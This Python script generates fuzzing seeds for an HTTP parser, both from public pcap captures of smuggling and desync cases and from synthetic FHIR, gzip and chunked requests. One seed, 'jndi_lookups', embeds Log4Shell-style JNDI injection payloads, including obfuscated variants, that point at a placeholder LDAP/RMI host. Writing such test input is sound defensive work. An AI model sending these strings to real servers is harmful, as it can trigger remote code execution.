#!/usr/bin/env python3
"""Writes the seed corpus of http_fuzz (python3 stdlib + tshark when regenerating).

Usage: python3 make_corpus.py [output_dir]   (default: the directory of this script)

Each seed is a sequence of chunks in the format of src/parsers/testing/fuzz_util.h:
[flags:1][length:2 big-endian][bytes], flags bit 0 = direction (0 to server, 1 to client),
bit 1 = a gap of `length` bytes instead of data.

Real seeds are the first TCP connection of captures in ../shared/data/pcap, extracted with
    tshark -r FILE -T fields -e tcp.stream -e tcp.srcport -e tcp.payload
(each capped at 4 KiB so the corpus stays small) and named after the capture. The rest are
synthetic cases mirroring http_parser_test.cc (FHIR, gzip, chunked, smuggling, HTTP/0.9).
"""
import gzip
import os
import struct
import subprocess
import sys

TO_SERVER, TO_CLIENT, GAP = 0, 1, 2
HERE = os.path.dirname(os.path.abspath(__file__))
DATA = os.path.normpath(os.path.join(HERE, "../../../../../shared/data/pcap"))
CAP = 4096

REAL = {
    "zeek_100_continue": "zeek/traces/http/100-continue.pcap",
    "zeek_basic_auth_colon": "zeek/traces/http/basic-auth-with-colon.pcap",
    "zeek_pipelined_gzip": "zeek/traces/http/pipelined-requests.pcap",
    "zeek_http09": "zeek/traces/http/http_09.pcap",
    "zeek_smuggle_gzip": "zeek/traces/http/smuggle-http-request.pcap",
    "zeek_te_cl_desync": "zeek/traces/http/261/variant-04-te_cl_desync.pcap",
    "zeek_chunk_overflow": "zeek/traces/http/261/variant-01-chunk_2pow64_overflow.pcap",
    "sv_multiple_cl": "suricata-verify/http-multiple-cl/input.pcap",
    "sv_chunked_token": "suricata-verify/http-chunked/input.pcap",
    "sv_auth_bearer": "suricata-verify/http-auth-bearer/input.pcap",
    "ndpi_http_auth": "ndpi/http_auth.pcap",
    "ndpi_http_manipulated": "ndpi/http-manipulated.pcap",
}


def chunk(flags, data):
    return struct.pack(">BH", flags, len(data)) + data


def encode(chunks):
    out = b""
    for flags, data in chunks:
        for i in range(0, max(len(data), 1), 0xFFFF):
            out += chunk(flags, data[i:i + 0xFFFF])
    return out


def real_seed(path):
    rows = subprocess.run(["tshark", "-r", path, "-Y", "tcp.stream == 0 && tcp.len > 0", "-T", "fields",
                           "-e", "tcp.srcport", "-e", "tcp.dstport", "-e", "tcp.payload"],
                          capture_output=True, text=True, timeout=60).stdout.split("\n")
    chunks, total, client = [], 0, None
    for row in rows:
        parts = row.split("\t")
        if len(parts) != 3 or not parts[2]:
            continue
        if client is None:
            client = parts[0]
        data = bytes.fromhex(parts[2])[:CAP - total]
        if not data:
            break
        chunks.append((TO_SERVER if parts[0] == client else TO_CLIENT, data))
        total += len(data)
    return encode(chunks)


def synthetic():
    patient = b'{"resourceType":"Patient","id":"p1","name":[{"family":"Syn"}],"birthDate":"1900-01-01"}'
    z = gzip.compress(patient, mtime=0)
    return {
        "fhir_patient_post": encode([
            (TO_SERVER, b"POST /fhir/Patient HTTP/1.1\r\nContent-Type: application/fhir+json\r\n"
                        b"Content-Length: %d\r\n\r\n" % len(patient) + patient),
            (TO_CLIENT, b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")]),
        "fhir_gzip_chunked_response": encode([
            (TO_SERVER, b"GET /fhir/Patient/p1?name=Syn HTTP/1.1\r\nAccept: application/fhir+json\r\n\r\n"),
            (TO_CLIENT, b"HTTP/1.1 200 OK\r\nContent-Type: application/fhir+json\r\nContent-Encoding: gzip\r\n"
                        b"Transfer-Encoding: chunked\r\n\r\n%x;e=1\r\n" % len(z) + z + b"\r\n0\r\nT: 1\r\n\r\n")]),
        "fhir_xml_device": encode([
            (TO_SERVER, b"PUT /fhir/Device/d1 HTTP/1.1\r\nContent-Type: application/fhir+xml\r\n"
                        b"Content-Length: 60\r\n\r\n<Device><id value=\"d1\"/><patient><reference/></patient></Device>")]),
        "gap_inside_body": encode([
            (TO_SERVER, b"GET / HTTP/1.1\r\n\r\n"),
            (TO_CLIENT, b"HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\nabc"), (GAP | TO_CLIENT, b"\0" * 10),
            (TO_CLIENT, b"0123456HTTP/1.1 204 No Content\r\n\r\n")]),
        "digest_and_obs_fold": encode([
            (TO_SERVER, b"GET /x HTTP/1.1\r\nAuthorization: Digest username=\"u\", realm=\"r\"\r\n"
                        b"X-Folded: a\r\n b\r\nbad line\r\n\r\n")]),
        "jndi_lookups": encode([
            (TO_SERVER, b"POST /login?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fh%2Fa%7D HTTP/1.1\r\n"
                        b"User-Agent: ${${::-j}${::-n}di:rmi://h/a}\r\nContent-Length: 44\r\n\r\n"
                        b"uname=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D&p=x")]),
        "upgrade_then_other_protocol": encode([
            (TO_SERVER, b"GET /ws HTTP/1.1\r\nUpgrade: websocket\r\n\r\n"),
            (TO_CLIENT, b"HTTP/1.1 101 Switching Protocols\r\n\r\n\x81\x05hello")]),
    }


def main(out):
    seeds = synthetic()
    for name, rel in REAL.items():
        path = os.path.join(DATA, rel)
        if os.path.exists(path):
            seeds[name] = real_seed(path)
    for name, data in sorted(seeds.items()):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else HERE)
